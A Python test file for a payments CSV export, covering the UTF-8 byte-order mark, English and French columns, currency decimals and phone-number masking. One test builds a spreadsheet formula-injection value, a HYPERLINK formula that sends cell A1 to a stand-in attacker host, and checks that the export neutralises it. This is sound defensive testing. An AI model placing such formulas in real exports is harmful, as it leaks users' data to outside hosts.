"""Tests the CSV of payments: what a spreadsheet makes of it."""

import csv
import io
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from chalicelib.domain.money import Money
from chalicelib.domain.payment import PaymentStatus
from chalicelib.web.payments_csv import payments_csv
from tests.unit.test_payment import PROMPTED

PAID = replace(PROMPTED, status=PaymentStatus.SUCCESSFUL, version=3, operator_reference="sms-1", late=True)


def cells(text: str, separator: str) -> list[list[str]]:
    assert text[0] == "\ufeff", "Excel needs it to read UTF-8"
    return list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=separator, strict=True))


def test_a_row_in_english() -> None:
    assert payments_csv([PAID], "en") == (
        "\ufeffCreated (UTC),Changed (UTC),Order,Reference,Status,Amount,Currency,Operator,Phone number (masked),"
        "Provider's reference,Operator's reference,Reason,Late,Duplicate\r\n"
        "1970-01-01T00:16:40.000Z,1970-01-01T00:16:40.000Z,order-1,payment-1,SUCCESSFUL,5000,XAF,MTN,2376******77,"
        "A,sms-1,,yes,no\r\n"
    )


def test_a_row_in_french() -> None:
    header, row = cells(payments_csv([replace(PAID, money=Money(1999, "EUR"))], "fr"), ";")
    assert header[:6] == ["Créé (UTC)", "Modifié (UTC)", "Commande", "Référence", "État", "Montant"]
    assert (row[5], row[6], row[-2:]) == ("19,99", "EUR", ["oui", "non"])


@pytest.mark.parametrize(
    ("money", "written"),
    [
        (Money(5000, "XAF"), "5000"),
        (Money(1, "XOF"), "1"),
        (Money(5, "USD"), "0.05"),
        (Money(150_000, "EUR"), "1500.00"),
        (Money(5000, "TND"), "5.000"),
    ],
)
def test_an_amount_has_its_currencys_decimals(money: Money, written: str) -> None:
    _, row = cells(payments_csv([replace(PAID, money=money)], "en"), ",")
    assert row[5] == written


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "\r", "\n"])
def test_a_cell_that_would_begin_a_formula_is_text(sign: str) -> None:
    reason = f'{sign}HYPERLINK("https://evil.example?"&A1;"x")'
    for language, separator in (("en", ","), ("fr", ";")):
        _, row = cells(payments_csv([replace(PAID, reason=reason)], language), separator)
        assert row[11] == f"'{reason}"


@given(st.text(), st.sampled_from([("en", ","), ("fr", ";")]))
def test_any_reason_is_one_cell_of_one_row(reason: str, written: tuple[str, str]) -> None:
    language, separator = written
    header, row = cells(payments_csv([replace(PAID, reason=reason)], language), separator)
    assert len(header) == len(row)
    assert row[11] in (reason, f"'{reason}")


def test_no_hash_and_no_number_is_in_it() -> None:
    assert PAID.phone_hash not in payments_csv([PAID], "en")
    assert cells(payments_csv([], "fr"), ";")[1:] == []
